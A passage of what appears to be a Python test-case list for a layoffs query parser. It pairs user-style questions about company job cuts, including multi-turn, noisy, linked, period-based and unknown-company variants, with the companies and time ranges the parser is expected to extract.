    # long conversations, junk around a real question, links
    rank("conv-rank-three-turns", ("top 5 companies 2023", "and 2024?", "in india?"), Y(2024), limit=5, country="India"),
    rounds("conv-rounds-then-period", ("meta layoffs", "list them", "since 2023?"), "Meta", since(Y(2023))),
    replace(compare("conv-compare-chart", ("amazon vs meta", "since 2025?", "chart?"), ("Amazon", "Meta"), since(Y(2025))),
            chart="compare"),
    total("conv-after-unknown", ("intel layoffs", "nvidia?", "and microsoft?"), "Microsoft"),
    total("conv-four-turns", ("google layoffs", "since 2023?", "what about meta", "and amazon?"), "Amazon", since(Y(2023))),
    total("junk-around-question", "amazon layoffs 2023 %s%n", "Amazon", Y(2023)),
    total("junk-template-before", "{{x}} meta layoffs", "Meta"),
    total("link-slack", "<https://news.example.com/amazon-cuts|link> how many did amazon cut in 2026", "Amazon",
          ("2026-01-01", "2026-12-31")),
    total("link-bare", "https://example.com/story?id=2023 meta layoffs since 2025?", "Meta", since(Y(2025))),
    total("handle-at", "@amazon layoffs", "Amazon"),
    none("unk-upper", "NVIDIA LAYOFFS", "nvidia"),
    none("unk-upper-job-cuts", "VERIZON JOB CUTS 2024", "verizon"),

    # every answer kind under period operators
    total("ops-aws-before-2024", "aws job cuts before 2024", "Amazon", before(Y(2024)), division="AWS"),
    total("ops-twitch-since-early", "twitch layoffs since early 2023", "Amazon", since(P("early", 2023)), division="Twitch"),
    rank("ops-fintech-since-h2", "biggest fintech layoffs since h2 2023", since(H(2, 2023)), industry="Finance"),
    rank("ops-india-before-2023", "top 3 indian companies by layoffs before 2023", before(Y(2023)), limit=3, country="India"),
    compare("ops-cmp-before-mid", "amazon vs meta before mid 2023", ("Amazon", "Meta"), before(P("mid", 2023))),
    compare("ops-cmp-between", "google vs microsoft between q4 2022 and q1 2023", ("Google", "Microsoft"),
            span(Q(4, 2022), Q(1, 2023))),
    periods("ops-periods-parts", "amazon early 2023 vs late 2025", "Amazon", P("early", 2023), P("late", 2025)),
    periods("ops-periods-shared-year", "meta h1 vs h2 2023", "Meta", H(1, 2023), H(2, 2023)),
    periods("ops-periods-quarters", "amazon q1 vs q4 2025", "Amazon", Q(1, 2025), Q(4, 2025)),
    periods("ops-periods-how-many", "how many did amazon cut in 2023 vs 2024", "Amazon", Y(2023), Y(2024)),
    none("ops-unknown-between", "nvidia layoffs between q4 2022 and q1 2023", "nvidia"),
    none("ops-unknown-ticker-lower", "nvda job cuts", "nvda"),
    pace("ops-pace-since", "has intel slowed down since 2024", ("Intel",), since(Y(2024))),
    latest("ops-latest-since", "latest layoffs since q4 2025", None, since(Q(4, 2025))),
    rounds("ops-rounds-before", "list intel layoffs before h2 2025", "Intel", before(H(2, 2025))),
    percent("ops-percent-since-part", "what % did meta cut since late 2022", "Meta", since(P("late", 2022))),

    # short names we don't have: two or three letters
    none("short-hp-at", "job cuts at hp in 2024", "hp"),
    none("short-HP", "HP layoffs", "hp"),
    none("short-GE", "GE layoffs 2023", "ge"),
    none("short-EA", "how many did EA lay off", "ea"),
    none("short-AMD", "AMD job cuts", "amd"),
    none("short-SAP", "SAP layoffs 2024", "sap"),
    none("short-IBM-since", "IBM layoffs since late 2022", "ibm"),
    none("short-3-unknown", "hp vs ibm vs amd", "hp", "ibm", "amd"),
    partial("short-partial-ge", "GE vs Intel", ("Intel",), ("ge",)),
    partial("short-partial-ea", "microsoft vs EA since 2023", ("Microsoft",), ("ea",), since(Y(2023))),

    # punctuation and casing people use
    total("punct-what-did", "what did amazon cut in 2023", "Amazon", Y(2023)),
    total("punct-colon", "amazon: 2023?", "Amazon", Y(2023)),
    total("punct-em-dash", "amazon — layoffs — 2023", "Amazon", Y(2023)),
    total("punct-title-case", "Amazon Layoffs In 2023", "Amazon", Y(2023)),
    total("punct-hyphen", "amazon lay-offs 2023", "Amazon", Y(2023)),
    total("punct-wrong-apostrophe", "amazon layoff's 2023", "Amazon", Y(2023)),
    total("punct-employees-lost", "how many amazon employees lost their jobs in 2023", "Amazon", Y(2023)),
    typo("punct-googlers", "how many googlers were let go in 2023", "Google", Y(2023)),
    total("punct-person", "How many people has Elon fired at Twitter?", "Twitter"),
    total("punct-smart-quotes", "how many did “meta” cut in 2022", "Meta", Y(2022)),
]
